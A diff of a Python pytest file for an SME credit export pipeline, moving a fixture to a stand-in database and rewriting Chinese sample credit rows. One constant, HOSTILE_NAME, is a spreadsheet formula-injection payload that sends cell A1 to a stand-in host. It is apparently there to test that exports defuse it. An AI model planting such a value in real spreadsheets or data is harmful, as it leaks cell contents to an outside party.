@@ -9,7 +9,6 @@ import openpyxl
 import pytest
 from sqlalchemy import text
 
-from sme_credit import warehouse
 from sme_credit.publish import exports, lifecycle, tracking
 
 D1, D2 = dt.date(2026, 11, 3), dt.date(2026, 11, 4)
@@ -17,40 +16,15 @@ HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
 
 
 @pytest.fixture
-def engine(fresh_db):
-    engine = warehouse.engine()
+def engine(marts_stand_in):
+    engine = marts_stand_in
     with engine.begin() as conn:
-        conn.execute(text("create schema marts"))
-        conn.execute(
-            text(
-                "create table marts.precredit_candidates (uscc text, as_of_date date, enterprise_name text, "
-                "risk_tier text, risk_tier_name_zh text, score integer, suggested_limit numeric(14, 2), "
-                "suggested_term_months integer, suggested_product text, rate_band text, triggered boolean, "
-                "trigger_condition text)"
-            )
-        )
-        conn.execute(
-            text(
-                "create table marts.customer_risk_tiers (uscc text, as_of_date date, risk_tier text, score integer, "
-                "knock_out boolean default false, reason_codes text)"
-            )
-        )
-        conn.execute(
-            text(
-                "create table marts.precredit_pool "
-                "(uscc text, as_of_date date, pool_status text, missed_condition text)"
-            )
-        )
-        conn.execute(
-            text(
-                "create table marts.early_warning_signals (uscc text, as_of_date date, signal text, severity text, "
-                "observed_value numeric, threshold numeric, detail text)"
-            )
-        )
         for day in (D1, D2):
             conn.execute(
                 text(
-                    "insert into marts.precredit_candidates values "
+                    "insert into marts.precredit_candidates (uscc, as_of_date, enterprise_name, risk_tier, "
+                    "risk_tier_name_zh, score, suggested_limit, suggested_term_months, suggested_product, rate_band, "
+                    "triggered, trigger_condition) values "
                     "('91A', :d, '杭州甲贸易有限公司', 'high_potential', '高潜力支持型', 720, 300000, 12, "
                     "'settlement_flow_loan', 'LPR+0.50%', false, null), "
                     "('91B', :d, :hostile, 'steady', '稳健型', 600, 80000.50, 12, 'tax_credit_loan', 'LPR+1.50%', "
